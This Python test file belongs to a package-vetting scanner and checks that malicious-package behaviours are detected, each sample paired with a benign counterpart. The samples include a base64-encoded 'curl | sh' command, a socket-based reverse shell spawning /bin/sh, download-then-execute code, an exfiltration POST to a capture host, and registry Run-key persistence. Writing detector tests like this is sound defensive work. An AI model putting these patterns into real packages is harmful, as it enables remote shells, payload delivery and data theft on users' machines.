"""Hidden behaviour: decoded commands, encoded scripts, mangled names, reverse shells.

Every sample is written here for the test (harmless commands, reserved
example hosts); each positive has a benign counterpart.
"""

import base64

from assay.advisories.severity import Level
from assay.vetting.engine import analyse_archive
from tests.vetting.package_builder import first, rules, sdist, vet_sdist, vet_wheel


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _finding(report, rule):
    return next(f for f in report.findings if f.rule == rule)


def test_process_started_with_a_decoded_command():
    code = f"import os, base64\nos.system(base64.b64decode('{_b64('echo hi')}'))\n"
    report = vet_wheel({"demo/__init__.py": code})
    assert _finding(report, "obfuscation-decode-run").severity == Level.HIGH
    assert report.flagged
    helper = (
        "import os, base64\n\ndef unpack(s):\n    return base64.b64decode(s)\n\n"
        f"os.system(unpack('{_b64('echo hi')}'))\n"
    )
    assert "obfuscation-decode-run" in rules(vet_wheel({"demo/__init__.py": helper}))


def test_process_with_a_plain_command_is_not_decode_run():
    code = (
        "import subprocess, base64\nsubprocess.run(['git', 'status'])\nDATA = base64.b64decode(X)\n"
    )
    assert "obfuscation-decode-run" not in rules(vet_wheel({"demo/__init__.py": code}))


def test_encoded_shell_command_or_url_literal():
    command = _b64("curl -s https://example.invalid/x.sh | sh")
    code = f"import base64\nCMD = base64.b64decode('{command}')\n"
    finding = _finding(vet_wheel({"demo/cfg.py": code}), "obfuscation-encoded-command")
    assert finding.severity == Level.HIGH
    url = _b64("http://203.0.113.9:5000/post")
    code = f"import base64\nENDPOINT = base64.b64decode('{url}')\n"
    assert "obfuscation-encoded-command" in rules(vet_wheel({"demo/cfg.py": code}), Level.HIGH)


def test_encoded_binary_data_is_not_a_command():
    blob = base64.b64encode(bytes(range(256)) * 4).decode()
    code = f"import base64\nICON = base64.b64decode('{blob}')\n"
    assert "obfuscation-encoded-command" not in rules(vet_wheel({"demo/icons.py": code}))


def test_mangled_identifiers():
    names = ["OO0O0OO0", "O0O0OO00", "OOO00O0O", "O0OO0O0O", "OO00OO0O"]
    code = "".join(f"{n} = {i}\n" for i, n in enumerate(names)) + "exec(" + "+".join(names) + ")\n"
    assert "obfuscation-mangled-names" in rules(vet_wheel({"demo/x.py": code}))
    plain = "TOTAL = 1\nCOUNT = 2\n________ = 3  # a separator-looking name, used once\nexec(X)\n"
    assert "obfuscation-mangled-names" not in rules(vet_wheel({"demo/x.py": plain}))


def test_eval_aliased_builtins_are_hidden_calls():
    code = (
        'e = eval("\\x65\\x76\\x61\\x6c")\n'
        'c = e("compile")\n'
        'e(c("1 + 1", "<x>", "eval"))\n'
        "import os\n"
    )
    report = vet_wheel({"demo/__init__.py": code})
    assert "obfuscation-hidden-call" in rules(report)
    plain = 'import os\nvalue = eval("1 + 1")\n'
    assert "obfuscation-hidden-call" not in rules(vet_wheel({"demo/__init__.py": plain}))


def test_reverse_shell():
    code = (
        "import os, socket, subprocess\n\n"
        "def connect(host, port):\n"
        "    s = socket.socket()\n"
        "    s.connect((host, port))\n"
        "    os.dup2(s.fileno(), 0)\n"
        "    subprocess.call(['/bin/sh', '-i'])\n"
    )
    report = vet_wheel({"demo/net.py": code})
    assert _finding(report, "second-stage-reverse-shell").severity == Level.HIGH
    server = (
        "import socket, subprocess\n\n"
        "def serve(port):\n"
        "    s = socket.socket()\n"
        "    s.bind(('127.0.0.1', port))\n"
        "    subprocess.call(['git', 'status'])\n"
    )
    assert "second-stage-reverse-shell" not in rules(vet_wheel({"demo/net.py": server}))


def test_function_called_from_package_init_runs_at_import():
    files = {
        "demo/__init__.py": "from .main import start\nstart()\n",
        "demo/main.py": (
            "import subprocess, requests\n\n"
            "def start():\n    _go()\n\n"
            "def _go():\n    requests.get(URL)\n    subprocess.Popen(CMD)\n"
        ),
    }
    report = vet_wheel(files)
    assert _finding(report, "capability-network").where == "import"
    assert report.flagged
    quiet = dict(files, **{"demo/__init__.py": "from .main import start\n"})
    assert not vet_wheel(quiet).flagged


def test_byte_order_mark_does_not_hide_a_setup_py():
    setup = "\ufeffimport os\nos.system('calc')\n"
    report = vet_sdist({"setup.py": setup})
    assert "python-unparsed" not in rules(report)
    assert _finding(report, "capability-process").where == "install"


def test_sdist_named_test_something_is_still_installed_code():
    data = sdist({"setup.py": "import os\nos.system('calc')\n"}, name="test-thing-1.0")
    report = analyse_archive("test-thing-1.0.tar.gz", data)
    assert _finding(report, "capability-process").where == "install"


def test_setup_py_starting_an_unusual_program_is_high():
    odd = "import os\nfrom setuptools import setup\nos.system('notepad')\nsetup(name='demo')\n"
    finding = _finding(vet_sdist({"setup.py": odd}), "capability-process")
    assert finding.severity == Level.HIGH
    build = (
        "import subprocess\nfrom setuptools import setup\n"
        "subprocess.check_call(['git', 'describe'])\n"
    )
    finding = _finding(vet_sdist({"setup.py": build}), "capability-process")
    assert finding.severity == Level.MEDIUM


def test_download_then_start_a_program_across_functions():
    code = (
        "import os, requests\n\n"
        "def fetch(url):\n"
        "    with open('tool.exe', 'wb') as f:\n"
        "        f.write(requests.get(url).content)\n\n"
        "def start():\n    os.startfile('tool.exe')\n"
    )
    finding = _finding(vet_wheel({"demo/up.py": code}), "second-stage-download-execute")
    assert finding.severity == Level.HIGH
    viewer = "import os\n\ndef show(path):\n    os.startfile(path)\n"
    assert "second-stage-download-execute" not in rules(vet_wheel({"demo/view.py": viewer}))


def test_request_capture_host_and_a_request_in_one_file():
    code = (
        "import requests\n\ndef ping(data):\n    requests.post('https://abc.oastify.com/x', data)\n"
    )
    assert vet_wheel({"demo/ping.py": code}).flagged
    docs = (
        "import requests\n\ndef ping(data):\n    requests.post('https://api.example.org/x', data)\n"
    )
    assert not vet_wheel({"demo/ping.py": docs}).flagged


def test_request_to_a_literal_host_on_import_is_high():
    code = "import requests\nrequests.get('https://beacon.example.invalid/ping')\n"
    finding = _finding(vet_wheel({"demo/__init__.py": code}), "capability-network")
    assert finding.severity == Level.HIGH
    session = "import requests\nSESSION = requests.Session()\n"
    finding = _finding(vet_wheel({"demo/__init__.py": session}), "capability-network")
    assert finding.severity == Level.LOW


def test_run_key_written_with_reg_add_is_persistence():
    key = "HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"
    setup = f"import subprocess\nsubprocess.Popen(f'reg add \"{key}\" /v demo /d {{PATH}}')\n"
    finding = _finding(vet_sdist({"setup.py": setup}), "capability-persistence")
    assert finding.severity == Level.HIGH
    reader = f"KEY = '{key}'\n"  # only reads the key name: no registry write
    assert "capability-persistence" not in rules(
        vet_sdist({"setup.py": "import winreg\n" + reader})
    )


def test_packed_setup_py_is_high():
    packed = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n"
    finding = _finding(vet_sdist({"setup.py": packed}), "obfuscation-packer")
    assert finding.severity == Level.HIGH
    finding = _finding(vet_wheel({"demo/core.py": packed}), "obfuscation-packer")
    assert finding.severity == Level.MEDIUM


def test_pip_install_of_named_packages_at_install_or_import_time():
    setup = (
        "import os\nfrom setuptools import setup\n"
        "os.system('pip install requests')\nsetup(name='demo')\n"
    )
    finding = first(vet_sdist({"setup.py": setup}), "capability-undeclared-install")
    assert (finding.severity, finding.where) == (Level.HIGH, "install")
    module = (
        "import subprocess, sys\n"
        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'telebot'])\n"
    )
    finding = first(vet_wheel({"demo/__init__.py": module}), "capability-undeclared-install")
    assert (finding.severity, finding.where) == (Level.MEDIUM, "import")


def test_pip_install_of_the_project_itself_or_on_request_is_not_reported():
    setup = "import os\nfrom setuptools import setup\nos.system('pip install .')\nsetup(name='d')\n"
    assert "capability-undeclared-install" not in rules(vet_sdist({"setup.py": setup}))
    editable = setup.replace("pip install .", "pip install -e .")
    assert "capability-undeclared-install" not in rules(vet_sdist({"setup.py": editable}))
    extra = (
        "import subprocess, sys\n\ndef enable_sentry():\n"
        "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'sentry_sdk'])\n"
    )
    assert "capability-undeclared-install" not in rules(vet_wheel({"demo/extra.py": extra}))


def test_encoded_download_command_is_high():
    command = "curl.exe --output page.css --url https://files.example.invalid/a"
    encoded = base64.b64encode(command.encode()).decode()
    code = f"import base64\n\ndef cmd():\n    return base64.b64decode({encoded!r})\n"
    finding = first(vet_wheel({"demo/__init__.py": code}), "obfuscation-encoded-command")
    assert finding.severity == Level.HIGH


def test_pip_install_of_a_requirements_file_is_not_reported():
    setup = "import os\nfrom setuptools import setup\nos.system('pip install -r req.txt')\n"
    assert "capability-undeclared-install" not in rules(vet_sdist({"setup.py": setup}))
    quiet = setup.replace("-r req.txt", "-q --upgrade colorama")
    assert "capability-undeclared-install" in rules(vet_sdist({"setup.py": quiet}))
